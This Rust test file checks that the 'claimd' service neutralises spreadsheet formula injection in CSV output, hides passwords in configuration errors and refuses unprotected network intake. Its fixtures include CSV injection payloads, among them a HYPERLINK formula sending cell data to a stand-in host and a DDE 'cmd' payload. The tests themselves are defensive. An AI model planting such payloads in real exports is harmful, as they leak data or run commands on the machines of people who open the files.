//! Output that is safe to open and to show (issue 12): CSV cells a spreadsheet would run are
//! neutralised, store URLs are checked at load and printed without their password, bad provider
//! header values are configuration errors, the bearer scheme is case-insensitive, and intake is
//! never open to the network by accident.

use crate::common;

use claimd::domain::claim::ClaimState;
use claimd::store::{ClaimOutcome, NewEvent, Settlement};
use common::provider::{Script, TestProvider};
use common::*;
use std::time::Duration;

fn write_config(dir: &std::path::Path, toml: &str) -> String {
    let path = dir.join("c.toml");
    std::fs::write(&path, toml).unwrap();
    path.to_str().unwrap().to_string()
}

/// Ids and tenants a spreadsheet would run as formulas (OWASP CSV injection).
const HOSTILE: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
];

/// Splits CSV text into rows of unquoted cells (RFC 4180: quotes, doubled quotes, line
/// breaks inside quotes).
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut cell = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    let mut cell_was_quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') => {
                quoted = true;
                cell_was_quoted = true;
            }
            (false, ',') => {
                row.push(std::mem::take(&mut cell));
                cell_was_quoted = false;
            }
            (false, '\n') => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
                cell_was_quoted = false;
            }
            (false, c) => cell.push(c),
        }
    }
    let _ = cell_was_quoted;
    rows
}

/// Every cell a spreadsheet would read: none may begin with a formula character.
fn assert_no_formula(csv: &str) {
    for row in parse_csv(csv) {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "cell {cell:?} would run as a formula in:\n{csv}"
            );
        }
    }
}

async fn claim(store: &claimd::store::Store, tenant: &str, id: &str) -> i64 {
    let n = orphan_claim("payments", tenant, id, &format!("payments:{tenant}:{id}"));
    match store.claim(&n).await.unwrap() {
        ClaimOutcome::Created(c) => c.id,
        _ => panic!("new claim"),
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn csv_cells_that_a_spreadsheet_would_run_are_neutralised() {
    let store = TestStore::sqlite();
    // A provider that knows none of the keys: every completed claim is a mismatch.
    let provider = TestProvider::start(Script::default()).await;
    let dir = tempfile::tempdir().unwrap();
    let cfg = write_config(
        dir.path(),
        &config_toml(&store.url(), &consumer_toml("payments", &provider.url, "")),
    );
    let s = claimd::store::open(&store.url(), 2).await.unwrap();
    s.migrate().await.unwrap();
    let ev = NewEvent {
        actor: "t",
        action: "t",
        outcome: "t",
        provider_status: None,
        detail: None,
    };
    for (i, hostile) in HOSTILE.iter().enumerate() {
        // The hostile text as a message id (with a plain tenant) and as a tenant.
        for (tenant, id) in [
            ("acme".to_string(), hostile.to_string()),
            (hostile.to_string(), format!("order-{i}")),
        ] {
            let id_ = claim(&s, &tenant, &id).await;
            let settlement = Settlement {
                state: Some(ClaimState::Completed),
                error: Some(format!("=cmd|' /C calc'!A0 {i}")),
                ..Default::default()
            };
            s.settle(id_, 1, &settlement, &ev).await.unwrap();
        }
    }

    let (code, out, err) = cli(&["claims", "list", "--format", "csv", "--config", &cfg]);
    assert_eq!(code, 0, "{err}");
    assert_no_formula(&out);
    let rows = parse_csv(&out);
    assert_eq!(rows.len(), 1 + 2 * HOSTILE.len(), "{out}");
    for hostile in HOSTILE {
        // A leading tab or carriage return is written out (`\t`, issue 24), which no
        // spreadsheet runs; the other formula starts are kept behind a quote.
        let shown = match hostile.strip_prefix('\t').or(hostile.strip_prefix('\r')) {
            Some(rest) => format!(
                "\\{}{rest}",
                if hostile.starts_with('\t') { 't' } else { 'r' }
            ),
            None => format!("'{hostile}"),
        };
        assert!(
            rows.iter().any(|r| r[2] == shown) && rows.iter().any(|r| r[1] == shown),
            "{hostile:?} kept, behind a quote, as id and as tenant:\n{out}"
        );
    }

    let (code, out, err) = cli(&["reconcile", "--format", "csv", "--config", &cfg]);
    assert_eq!(code, 3, "every claim is a mismatch: {out}{err}");
    assert_no_formula(&out);
    // A key with a carriage return cannot be asked about in a URL path: undecided, listed as
    // such with its reason.
    let rows = parse_csv(&out);
    assert_eq!(rows.len(), 1 + 2 * HOSTILE.len(), "{out}");
    assert_eq!(
        rows.iter().filter(|r| r[0] == "undecided").count(),
        2,
        "{out}"
    );
    assert!(
        out.contains("claims show payments '=HYPERLINK("),
        "the suggested command quotes the id for the shell:\n{out}"
    );

    let (code, out, err) = cli(&["report", "--format", "csv", "--config", &cfg]);
    assert_eq!(code, 0, "{err}");
    assert_no_formula(&out);
}

#[test]
fn a_mistyped_store_url_is_a_configuration_error_that_hides_the_password() {
    let dir = tempfile::tempdir().unwrap();
    for url in [
        "postgres//claimd:hunter2@db.internal/claims",
        "postgresql+tls://claimd:hunter2@db.internal/claims",
        "postgres://claimd:hunter2@db.internal:port/claims",
    ] {
        let cfg = write_config(
            dir.path(),
            &config_toml(url, &consumer_toml("payments", "http://127.0.0.1:1", "")),
        );
        for command in [&["report"][..], &["run"][..], &["claims", "list"][..]] {
            let mut args = command.to_vec();
            args.extend(["--config", &cfg]);
            let (code, out, err) = cli(&args);
            assert_eq!(code, 2, "{url} {command:?}: {out}{err}");
            assert!(err.contains("store.url"), "names the key: {err}");
            assert!(err.contains("c.toml"), "names the file: {err}");
            assert!(!err.contains("hunter2"), "password printed: {err}");
            assert!(err.contains("claimd:***@"), "the rest is shown: {err}");
            assert_eq!(err.trim_end().lines().count(), 1, "one line: {err}");
        }
    }
}

#[test]
fn mistyped_broker_and_provider_urls_are_refused_without_their_password() {
    let dir = tempfile::tempdir().unwrap();
    let store = format!("sqlite://{}", dir.path().join("x.db").display());
    let amqp = |url: &str| {
        format!(
            "\n[[consumers]]\nname = \"q\"\nsource = \"amqp\"\namqp_url = \"{url}\"\nqueue = \"q\"\ndead_letter_exchange = \"q.dlx\"\n[consumers.effect]\nkind = \"http\"\nurl = \"http://127.0.0.1:1/v1/q\"\n"
        )
    };
    for (consumers, key) in [
        (
            amqp("amqp//claimd:hunter2@rabbit/%2f"),
            "consumers[0].amqp_url",
        ),
        (
            amqp("amqps+x://claimd:hunter2@rabbit/%2f"),
            "consumers[0].amqp_url",
        ),
        (
            consumer_toml("payments", "http//claimd:hunter2@provider", ""),
            "consumers[0].effect.url",
        ),
    ] {
        let cfg = write_config(dir.path(), &config_toml(&store, &consumers));
        let (code, out, err) = cli(&["report", "--config", &cfg]);
        assert_eq!(code, 2, "{key}: {out}{err}");
        assert!(err.contains(key), "names the key: {err}");
        assert!(!err.contains("hunter2"), "password printed: {err}");
    }
}

#[test]
fn an_unreachable_store_fails_at_run_time_without_printing_the_password() {
    let dir = tempfile::tempdir().unwrap();
    let cfg = write_config(
        dir.path(),
        &config_toml(
            "postgres://claimd:hunter2@127.0.0.1:1/claims",
            &consumer_toml("payments", "http://127.0.0.1:1", ""),
        ),
    );
    let (code, out, err) = cli(&["report", "--config", &cfg]);
    assert_eq!(code, 1, "{out}{err}");
    assert!(
        !err.contains("hunter2") && !out.contains("hunter2"),
        "{err}"
    );
}

#[test]
fn an_invalid_provider_header_value_is_a_configuration_error_naming_the_key() {
    let dir = tempfile::tempdir().unwrap();
    let store = format!("sqlite://{}", dir.path().join("x.db").display());
    let good = config_toml(&store, &consumer_toml("payments", "http://127.0.0.1:1", ""));
    // A secret read from a file with its trailing newline.
    let broken = good.replace(
        "Bearer provider-secret-token\"",
        "Bearer provider-secret-token\\n\"",
    );
    assert_ne!(good, broken);
    let cfg = write_config(dir.path(), &broken);
    for command in ["report", "run"] {
        let (code, out, err) = cli(&[command, "--config", &cfg]);
        assert_eq!(code, 2, "{out}{err}");
        assert!(
            err.contains("consumers[0].effect.headers.Authorization"),
            "names the key: {err}"
        );
        assert!(!err.contains("provider-secret-token"), "no secret: {err}");
        assert_eq!(err.trim_end().lines().count(), 1, "one line: {err}");
    }
    let bad_name = good.replace("{ Authorization =", "{ \"Bad Header\" =");
    let cfg = write_config(dir.path(), &bad_name);
    let (code, _, err) = cli(&["report", "--config", &cfg]);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("effect.headers.Bad Header"), "{err}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_bearer_scheme_is_case_insensitive_on_admin_and_intake_routes() {
    let store = TestStore::sqlite();
    let (_sb, provider) = sandbox(Default::default()).await;
    let running = start(&config_toml_with(
        &store.url(),
        "admin_token = \"adm1n-token-0123456789\"\nintake_token = \"1ntake-token-0123456789\"",
        &consumer_toml("payments", &provider, ""),
    ))
    .await;
    let base = format!("http://{}", running.http_addr);
    let c = client();
    for (i, scheme) in ["Bearer", "bearer", "BEARER", "bEaReR"].iter().enumerate() {
        let r = c
            .get(format!("{base}/v1/claims"))
            .header("Authorization", format!("{scheme} adm1n-token-0123456789"))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status().as_u16(), 200, "{scheme}");
        let r = c
            .post(format!("{base}/v1/messages/payments"))
            .header("Authorization", format!("{scheme} 1ntake-token-0123456789"))
            .header("Idempotency-Key", format!("case-{i}"))
            .header("Content-Type", "application/json")
            .body("{}")
            .send()
            .await
            .unwrap();
        assert_eq!(r.status().as_u16(), 202, "{scheme}");
    }
    for wrong in [
        "Bearer wrong",
        "Basic adm1n-token-0123456789",
        "adm1n-token-0123456789",
        "Bearer",
    ] {
        let r = c
            .get(format!("{base}/v1/claims"))
            .header("Authorization", wrong)
            .send()
            .await
            .unwrap();
        assert_eq!(r.status().as_u16(), 401, "{wrong}");
    }
    running.shutdown(Duration::from_secs(5)).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_network_listener_needs_intake_protected_too() {
    let dir = tempfile::tempdir().unwrap();
    let store = format!("sqlite://{}", dir.path().join("x.db").display());
    let consumers = consumer_toml("payments", "http://127.0.0.1:1", "");
    let open = config_toml_with(
        &store,
        "admin_token = \"adm1n-token-0123456789\"",
        &consumers,
    )
    .replace("127.0.0.1:0", "0.0.0.0:0");
    let cfg = write_config(dir.path(), &open);
    let (code, out, err) = cli(&["run", "--config", &cfg]);
    assert_eq!(code, 2, "{out}{err}");
    assert!(err.contains("intake_token"), "names the key: {err}");
    assert!(
        err.contains("allow_open_intake"),
        "says how to open it: {err}"
    );
    assert_eq!(err.trim_end().lines().count(), 1, "one line: {err}");

    // Protected, or opened on purpose: it starts.
    for extra in [
        "admin_token = \"adm1n-token-0123456789\"\nintake_token = \"1ntake-token-0123456789\"",
        "admin_token = \"adm1n-token-0123456789\"\nallow_open_intake = true",
    ] {
        let toml = config_toml_with(&store, extra, &consumers).replace("127.0.0.1:0", "0.0.0.0:0");
        let app = claimd::service::app::App::open(load(&toml), true)
            .await
            .unwrap();
        let running = claimd::service::run::start(app)
            .await
            .unwrap_or_else(|e| panic!("{extra}: {e}"));
        running.shutdown(Duration::from_secs(2)).await;
    }
}
